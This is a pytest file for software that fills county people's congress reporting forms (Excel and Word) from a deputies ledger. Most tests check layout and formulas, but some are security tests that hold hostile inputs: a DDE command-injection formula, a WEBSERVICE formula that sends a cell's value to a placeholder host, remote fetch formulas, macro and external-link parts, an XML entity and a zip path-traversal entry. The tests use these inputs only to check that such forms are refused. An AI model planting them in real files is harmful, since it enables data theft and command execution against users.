"""The county's own forms: only what is marked changes, lists push down what stands below, nothing harmful comes in."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Border, Font, Side
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from app.domain.audiences import PUBLIC
from app.domain.registers import BY_KEY
from app.figures.catalogue import figure_of
from app.storage.ledger import Ledger
from app.storage.lists.listing import filed_listings
from app.storage.query import Query
from app.storage.refusals import Refused
from app.work.county_forms.facts import choices
from app.work.county_forms.filling import fill_form, filled_name, keep_template
from app.work.county_forms.formulas import Insertion, copied_down
from app.work.county_forms.marks import marks_in, plain_name
from tests.kept_ledgers import open_ledger, sample_folder

YEAR = 2022
SHEET = "统计 '表'"
LINE = Border(*[Side(style="thin")] * 4)


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ledger]:
    with open_ledger(sample_folder(tmp_path_factory.mktemp("forms") / "ledger")) as opened:
        yield opened


@pytest.fixture
def workbook() -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    book.active.title = SHEET
    return book


def fill(
    ledger: Ledger, folder: Path, template: Any, marks: dict[str, str] | None = None, **readers: Any
) -> tuple[Path, list[str]]:
    """Put a form in, fill it, and give the file and the remarks."""
    suffix = ".docx" if hasattr(template, "paragraphs") else ".xlsx"
    source = folder / f"form{suffix}"
    if isinstance(template, bytes):
        source.write_bytes(template)
    else:
        template.save(source)
    values = [{"sheet": SHEET, "cell": cell, "content": words} for cell, words in (marks or {}).items()]
    with ledger.act("放进上报表格") as act:
        row = act.add("county_forms", {"name": f"表{ledger.count('county_forms')}", "marks": values or None})
        keep_template(act, row, source)
    target = folder / f"filled{suffix}"
    return target, fill_form(ledger, row, YEAR, target, **readers)


def figure(ledger: Ledger, key: str) -> Any:
    return figure_of(ledger, key, YEAR)


def read(path: Path) -> Worksheet:
    return openpyxl.load_workbook(path).worksheets[0]


def texts(sheet: Worksheet, column: str, first: int, count: int) -> list[Any]:
    return [sheet[f"{column}{row}"].value for row in range(first, first + count)]


def test_only_the_marked_cells_change(ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path) -> None:
    sheet = workbook.active
    sheet["A1"], sheet["A1"].font = "〔乡镇〕人大〔年度〕年度统计表", Font("方正小标宋简体", size=18)
    sheet.merge_cells("A1:E1")
    sheet["A2"], sheet["B2"], sheet["C2"] = "文号", "迳人大〔2026〕5号", "〔　　〕号"
    sheet["B3"], sheet["B3"].number_format = "〔收到代表建议〕", "#,##0"
    sheet["B5"], sheet["B4"].border = "=B3*2", LINE
    sheet.column_dimensions["B"].width = 31.5
    sheet.column_dimensions["F"].font = Font(bold=True)
    sheet.oddHeader.center.text = "县人大常委会"
    workbook.create_sheet("说明")["A1"] = "照原样"
    target, remarks = fill(ledger, tmp_path, workbook, {"B4": "共〔receptions.batches〕批", "F9": "〔县〕"})
    assert remarks == []
    with zipfile.ZipFile(tmp_path / "form.xlsx") as before, zipfile.ZipFile(target) as after:
        assert before.namelist() == after.namelist()
        changed = [name for name in before.namelist() if before.read(name) != after.read(name)]
    assert changed == ["xl/worksheets/sheet1.xml"]
    filled, untouched = read(target), read(tmp_path / "form.xlsx")
    shown = {
        cell.coordinate for row in filled for cell in row if cell.value != untouched[cell.coordinate].value
    }
    assert shown == {"A1", "B3", "B4", "F9"}
    assert filled["F9"].font.bold  # a cell that the file does not hold looks as its column says
    assert filled["A1"].value == f"{ledger.office['town']}人大2022年度统计表"
    assert filled["B3"].value == figure(ledger, "suggestions.received").value
    assert filled["B4"].value == f"共{figure(ledger, 'receptions.batches').value}批"
    assert [
        cell.coordinate
        for row in filled
        for cell in row
        if cell._style != untouched[cell.coordinate]._style and cell.coordinate != "F9"
    ] == []
    assert filled.merged_cells.ranges == untouched.merged_cells.ranges


def test_a_share_is_written_as_its_cell_asks(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path
) -> None:
    sheet = workbook.active
    for cell, code in (("A1", "0.0%"), ("A2", "0.0"), ("A3", "General"), ("A4", "@")):
        sheet[cell], sheet[cell].number_format = "〔代表建议办结率〕", code
    sheet["A5"], sheet["A6"] = "〔代表建议办结率：分子〕", "〔代表建议办结率:分母〕"
    sheet["A7"], sheet["A7"].number_format = "〔收到代表建议〕", "@"
    filled = read(fill(ledger, tmp_path, workbook)[0])
    rate = figure(ledger, "suggestions.conclusion_rate")
    assert filled["A1"].value == pytest.approx(rate.numerator / rate.denominator)
    assert (filled["A2"].value, filled["A3"].value) == (float(rate.value), f"{rate.value}%")
    assert (filled["A4"].value, filled["A5"].value) == (f"{rate.value}%", rate.numerator)
    assert (filled["A6"].value, filled["A7"].value) == (rate.denominator, str(rate.denominator))


def listed(sheet: Worksheet, drawn: int) -> None:
    """A list in row 3, with rows drawn below it, a sum, a signature, and much that points to them."""
    for row in range(3, 4 + drawn):
        for column in "ABCD":
            sheet[f"{column}{row}"].border = LINE
        sheet[f"D{row}"] = f"=LEN(B{row})+$A${row + 0}*0+C{4 + drawn}"
    sheet["A3"], sheet["B3"], sheet["C3"] = "〔序号〕", "〔代表名册：姓名〕", "〔deputies：sex〕"
    last = 4 + drawn
    sheet[f"A{last}"], sheet[f"B{last}"] = "合计", f"=COUNTA(B3:B{last - 1})"
    sheet[f"C{last}"] = f"=SUM(A3:A{last - 1})"
    sheet.merge_cells(f"C{last}:D{last}")
    sheet[f"A{last + 1}"] = "签名：〔填表人〕"
    sheet.print_area = f"A1:D{last + 1}"
    sheet.conditional_formatting.add(f"A3:A{last - 1}", CellIsRule("lessThan", ["0"], font=Font(bold=True)))
    choice = DataValidation("list", '"男,女"')
    choice.add(f"C3:C{last - 1}")
    sheet.add_data_validation(choice)


@pytest.mark.parametrize("drawn", [0, 1, 4, 200])
def test_a_list_takes_the_rows_drawn_and_pushes_down_what_stands_below(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path, drawn: int
) -> None:
    listed(workbook.active, drawn)
    workbook.create_sheet("汇总")["A1"] = f"='统计 ''表'''!B{4 + drawn}+SUM('统计 ''表'''!A3:A{3 + drawn})"
    target, remarks = fill(ledger, tmp_path, workbook)
    assert remarks == []
    sheet, names = read(target), [row["name"] for row in ledger.rows("deputies", ledger.ids("deputies"))]
    in_list = [name for name in texts(sheet, "B", 3, len(names)) if name in names]
    count = len(in_list)
    rows = max(count, 1 + drawn)
    end = 3 + rows
    assert count > 60
    assert texts(sheet, "A", 3, count) == list(range(1, count + 1))
    assert texts(sheet, "B", 3 + count, rows - count) == [None] * (rows - count)
    assert sheet[f"A{end}"].value == "合计"
    assert (sheet[f"B{end}"].value, sheet[f"C{end}"].value) == (
        f"=COUNTA(B3:B{end - 1})",
        f"=SUM(A3:A{end - 1})",
    )
    for row in (3, 2 + rows):
        assert (
            sheet[f"D{row}"].value == f"=LEN(B{row})+$A${row if drawn and row > 3 else 3}*0+C{end}"
            or drawn == 0
        )
        assert sheet[f"B{row}"].border.left.style == "thin"
    assert [str(merge) for merge in sheet.merged_cells.ranges] == [f"C{end}:D{end}"]
    assert sheet[f"A{end + 1}"].value.startswith("签名：")
    assert sheet.print_area.endswith(f"$A$1:$D${end + 1}")
    assert [str(area.sqref) for area in sheet.conditional_formatting] == [f"A3:A{end - 1}"]
    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == [f"C3:C{end - 1}"]
    elsewhere = openpyxl.load_workbook(target)["汇总"]["A1"].value
    assert elsewhere == f"='统计 ''表'''!B{end}+SUM('统计 ''表'''!A3:A{end - 1})"


@pytest.mark.parametrize("drawn", [0, 1, 4, 200])
@pytest.mark.parametrize("typed_below", [False, True])
def test_what_is_typed_beside_a_list_s_marks_stands_in_each_row_and_numbers_of_rows_count_on(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path, drawn: int, typed_below: bool
) -> None:
    sheet = workbook.active
    for column, words in zip("ABCDEFG", ["序 号", "姓名", "年度", "名额", "乡镇", "单位", ""], strict=True):
        sheet[f"{column}2"] = words
        for row in range(3, 4 + drawn):
            sheet[f"{column}{row}"].border = LINE
            if typed_below:
                sheet[f"A{row}"], sheet[f"C{row}"] = row - 2, 2022
    sheet["A3"], sheet["B3"], sheet["C3"], sheet["D3"] = 1, "〔代表名册：姓名〕", 2022, 1
    sheet["E3"], sheet["F3"], sheet["G3"] = "迳口镇", "本镇各单位", "=LEN(B3)"
    sheet.merge_cells(f"F3:F{3 + drawn}")
    last = 4 + drawn
    sheet[f"A{last}"] = "合计"
    filled = read(fill(ledger, tmp_path, workbook)[0])
    listed = texts(filled, "B", 3, 400)
    count = next(number for number, name in enumerate(listed) if name is None)
    assert count > 60
    assert texts(filled, "A", 3, count) == list(range(1, count + 1))
    for column, fixed in (("C", 2022), ("D", 1), ("E", "迳口镇")):
        assert texts(filled, column, 3, count) == [fixed] * count
    assert texts(filled, "G", 3, count) == [f"=LEN(B{row})" for row in range(3, 3 + count)]
    beside = None if drawn else "本镇各单位"  # a cell merged over the rows stands beside the list
    assert texts(filled, "F", 3, count) == ["本镇各单位"] + [beside] * (count - 1)
    assert filled[f"A{max(last, 3 + count)}"].value == "合计"


@pytest.mark.parametrize(
    ("formula", "row", "after"),
    [
        ("SUM(B3:B3)", 20, "SUM(B3:B12)"),
        ("SUM(B3:D3)", 3, "SUM(B3:D3)"),  # across, in a row of the list
        ("B3+B4", 20, "B3+B13"),
        ("SUM($B$1:$B$4)", 20, "SUM($B$1:$B$13)"),
        ("SUM(B:B)+名称", 20, "SUM(B:B)+名称"),
        ("SUM(3:3)", 20, "SUM(3:12)"),
        ('其他!B4&"B4"', 20, '其他!B4&"B4"'),
        ("IF('表'!B4>0,'表'!B3:B3,0)", None, "IF('表'!B13>0,'表'!B3:B12,0)"),
    ],
)
def test_formulas_follow_rows_that_come_in(formula: str, row: int | None, after: str) -> None:
    """Nine rows come in behind row 3, where a list of one row stands."""
    assert Insertion("表", 3, 3, 9).formula(formula, "表", row) == after


def test_a_copied_row_counts_in_itself() -> None:
    assert copied_down("B3*C$3+SUM(B3:D3)+B9", 3, 2) == "B5*C$3+SUM(B5:D5)+B9"


def test_words_keep_the_look_of_their_runs(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path
) -> None:
    bold = TextBlock(InlineFont(b=True), "〔收到代表")
    workbook.active["A1"] = CellRichText("共收到", bold, "建议〕件")
    filled = openpyxl.load_workbook(fill(ledger, tmp_path, workbook)[0], rich_text=True).worksheets[0]
    count = str(figure(ledger, "suggestions.received").value)
    assert str(filled["A1"].value) == f"共收到{count}件"
    assert [str(piece) for piece in filled["A1"].value if isinstance(piece, TextBlock)] == [count]


def test_what_cannot_be_filled_is_named(ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path) -> None:
    sheet = workbook.active
    sheet["B7"], sheet["B8"], sheet["B9"] = (
        "〔收到的代表建议〕",
        "〔收到代表建议：没有这一类〕",
        "〔收到代表建议：上年〕",
    )
    target, remarks = fill(ledger, tmp_path, workbook)
    assert "B7 格的〔收到的代表建议〕不是能填的项目，是不是〔收到代表建议〕" in remarks[0]
    assert "B8" in remarks[1] and "没有数据" in remarks[1]
    assert read(target)["B7"].value == "〔收到的代表建议〕"
    assert read(target)["B8"].value is None  # never an invented zero


def test_private_columns_are_filled_only_when_asked(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path
) -> None:
    workbook.active["A1"] = "〔代表名册：公民身份号码〕"
    with pytest.raises(Refused, match=r"公民身份号码.*没有写出任何文件"):
        fill(ledger, tmp_path, workbook)
    with pytest.raises(Refused):
        fill(ledger, tmp_path, workbook, include_private=True, audience=PUBLIC)
    assert not (tmp_path / "filled.xlsx").exists()
    target, _ = fill(ledger, tmp_path, workbook, include_private=True)
    numbers = texts(read(target), "A", 1, 200)
    assert any(re.fullmatch(r"\d{17}[\dX]", str(number)) for number in numbers)


@pytest.mark.parametrize(
    ("name", "called"),
    [
        ("人大统计表", "人大统计表（2023年）.xlsx"),
        ("人大统计表（2022年）", "人大统计表（2023年）.xlsx"),
        ("2022 年度统计表", "2023 年度统计表.xlsx"),
        ("粤人办〔2021〕3号附表", "粤人办〔2021〕3号附表（2023年）.xlsx"),
    ],
)
def test_a_filled_form_is_called_by_the_year_filled_in(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path, name: str, called: str
) -> None:
    workbook.save(tmp_path / "form.xlsx")
    with ledger.act("放进上报表格") as act:
        row = act.add("county_forms", {"name": name})
        keep_template(act, row, tmp_path / "form.xlsx")
    assert filled_name(ledger, row, 2023) == called


@pytest.mark.parametrize(
    ("words", "level", "sex"),
    [("", None, None), ("：镇", "township", None), ("：县级", "county", None), (":女", None, "2"), ("：市", "", None)],
)  # fmt: skip
def test_a_list_takes_those_rows_that_were_asked_for(
    ledger: Ledger,
    workbook: openpyxl.Workbook,
    tmp_path: Path,
    words: str,
    level: str | None,
    sex: str | None,
) -> None:
    workbook.active["A1"], workbook.active["B1"] = f"〔代表名册：姓名{words}〕", "〔代表名册：代表证号〕"
    target, remarks = fill(ledger, tmp_path, workbook)
    rows = [
        row
        for listing in filed_listings(ledger, BY_KEY["deputies"], Query(year=YEAR))
        for row in listing.rows()
    ]
    wanted = [row["name"] for row in rows if level in (None, row["level"]) and sex in (None, row["sex"])]
    assert [text for text in texts(read(target), "A", 1, 200) if text] == wanted
    assert remarks == ([] if wanted else ["代表名册里今年没有“市”的，名单留空了，请核对。"])


def test_rows_have_every_word_that_one_line_asks_for(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path
) -> None:
    group = str(ledger.rows("deputies", ledger.ids("deputies"))[-1]["deputy_group"].name)
    workbook.active["A1"], workbook.active["B1"] = (
        "〔代表名册：性别：女〕",
        f"〔代表名册：代表小组：{group}〕",
    )
    filled = read(fill(ledger, tmp_path, workbook)[0])
    pairs = {(sex, of) for sex, of in filled.iter_rows(max_col=2, values_only=True)}
    assert pairs == {("女", group)}


def test_one_row_lists_one_ledger(ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path) -> None:
    workbook.active["A1"], workbook.active["B1"] = "〔代表名册：姓名〕", "〔意见建议：编号〕"
    with pytest.raises(Refused, match="一行只能列一本台账"):
        fill(ledger, tmp_path, workbook)


def test_rows_do_not_come_in_among_what_cannot_follow(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path
) -> None:
    workbook.active["A1"], workbook.active["C9"].comment = "〔代表名册：姓名〕", Comment("请核对", "县")
    with pytest.raises(Refused, match=r"批注.*再留 \d+ 行空行"):
        fill(ledger, tmp_path, workbook)


def split_runs(paragraph: Any, words: str) -> None:
    for start in range(0, len(words), 3):
        paragraph.add_run(words[start : start + 3]).bold = start % 2 == 0


def test_a_document_is_filled_however_its_marks_are_split(ledger: Ledger, tmp_path: Path) -> None:
    document = docx.Document()
    split_runs(document.add_paragraph(), "本镇收到代表建议〔收到代表建议〕件，办结率〔代表建议办结率〕。")
    document.sections[0].header.paragraphs[0].text = "〔单位〕"
    table = document.add_table(rows=4, cols=2)
    split_runs(table.cell(0, 0).paragraphs[0], "〔序号〕")
    split_runs(table.cell(0, 1).paragraphs[0], "〔代表名册：姓名〕")
    table.cell(3, 0).text = "合计"
    target, remarks = fill(ledger, tmp_path, document)
    assert remarks == []
    filled = docx.Document(str(target))
    rate = figure(ledger, "suggestions.conclusion_rate")
    assert filled.paragraphs[0].text == f"本镇收到代表建议{rate.denominator}件，办结率{rate.value}%。"
    assert filled.sections[0].header.paragraphs[0].text.endswith("人大主席团")
    rows = [[cell.text for cell in row.cells] for row in filled.tables[0].rows]
    assert rows[0][0] == "1" and rows[-1][0] == "合计"
    assert [number for number, _ in rows[:-1]] == [
        str(number) for number in range(1, len(rows))
    ]  # no row left empty
    with zipfile.ZipFile(tmp_path / "form.docx") as before, zipfile.ZipFile(target) as after:
        changed = {name for name in before.namelist() if before.read(name) != after.read(name)}
    assert changed == {"word/document.xml", "word/header1.xml"}


def test_a_cell_merged_beside_a_list_of_a_document_goes_on_through_its_rows(
    ledger: Ledger, tmp_path: Path
) -> None:
    document = docx.Document()
    table = document.add_table(rows=4, cols=2)
    table.cell(0, 0).merge(table.cell(2, 0)).text = "镇代表〔在任代表〕名"
    table.cell(0, 1).text = "〔代表名册：姓名〕"
    table.cell(3, 0).text = "合计"
    target, remarks = fill(ledger, tmp_path, document)
    assert remarks == []
    *listed, last = docx.Document(str(target)).tables[0].rows
    assert len(listed) > 3 and last.cells[0].text == "合计"
    merges = [row._tr.tc_lst[0].vMerge for row in listed]
    assert merges == ["restart"] + ["continue"] * (len(listed) - 1)
    words = [[text.text for text in row._tr.tc_lst[0].iter(qn("w:t"))] for row in listed]
    assert words[0] and not any(words[1:])


def with_part(template: openpyxl.Workbook, name: str, content: bytes) -> bytes:
    plain, rebuilt = io.BytesIO(), io.BytesIO()
    template.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.namelist():
            if member != name:
                archive.writestr(member, source.read(member))
        archive.writestr(name, content)
    return rebuilt.getvalue()


_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("xl/vbaProject.bin", b"x", "宏"),
        ("xl/activeX/activeX1.xml", b"<x/>", "宏"),
        ("xl/embeddings/oleObject1.bin", b"x", "宏"),
        ("xl/_rels/a.xml.rels", _RELS.format("externalLinkPath", "file:///c:/x.xlsx").encode(), "文件以外"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", "文件以外"),
        ("xl/connections.xml", b"<connections/>", "文件以外"),
        (
            "xl/_rels/a.xml.rels",
            _RELS.format("aFChunk", "page.htm").replace("External", "Internal").encode(),
            "文件以外",
        ),
        ("../../slip.xml", b"<x/>", "打不开"),
        ("xl/worksheets/sheet1.xml", b'<!DOCTYPE x [<!ENTITY y "z">]><worksheet/>', "打不开"),
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData>", "打不开"),
        ("xl/more.xml", b" " * (17 << 20), "太大"),
    ],
)
def test_a_harmful_form_is_refused(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path, name: str, content: bytes, words: str
) -> None:
    workbook.active["A1"] = "〔年度〕"
    with pytest.raises(Refused, match=words):
        fill(ledger, tmp_path, with_part(workbook, name, content))
    assert not (tmp_path / "filled.xlsx").exists()


@pytest.mark.parametrize(
    ("formula", "is_harmful"),
    [
        ('=WEBSERVICE("http://example.com/"&A1)', True),
        ('=1+_xlfn.image ("http://example.com")', True),
        ('=RTD("a",,"b")', True),
        ("=cmd|'/c calc'!A0", True),
        ('=HYPERLINK("http://example.com","点这里")', False),
        ('="合计|"&SUM(A2:A3)&"IMAGE(1)"', False),
        ("=_xlfn.MYIMAGE(1)", False),
    ],
)
def test_a_formula_that_fetches_or_starts_something_is_refused(
    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path, formula: str, is_harmful: bool
) -> None:
    workbook.active["A1"], workbook.active["C9"] = "〔年度〕", formula
    workbook.save(tmp_path / "form.xlsx")
    content = (tmp_path / "form.xlsx").read_bytes()
    if not is_harmful:
        fill(ledger, tmp_path, content)
        return
    with pytest.raises(Refused, match="文件以外"):
        fill(ledger, tmp_path, content)


@pytest.mark.parametrize("content", [b"", b"\xd0\xcf\x11\xe0" + b"x" * 600, b"%PDF-1.7", b"PK\x03\x04broken"])
def test_other_files_are_refused_with_what_to_do(ledger: Ledger, tmp_path: Path, content: bytes) -> None:
    with pytest.raises(Refused, match="请用 WPS 打开"):
        fill(ledger, tmp_path, content)


def test_every_choice_has_a_mark_of_its_own() -> None:
    names = [plain_name(name) for _, name in choices()]
    assert len(names) == len(set(names))
    assert marks_in("迳人大〔2026〕5号 〔 〕 〔年度〕") == ["年度"]
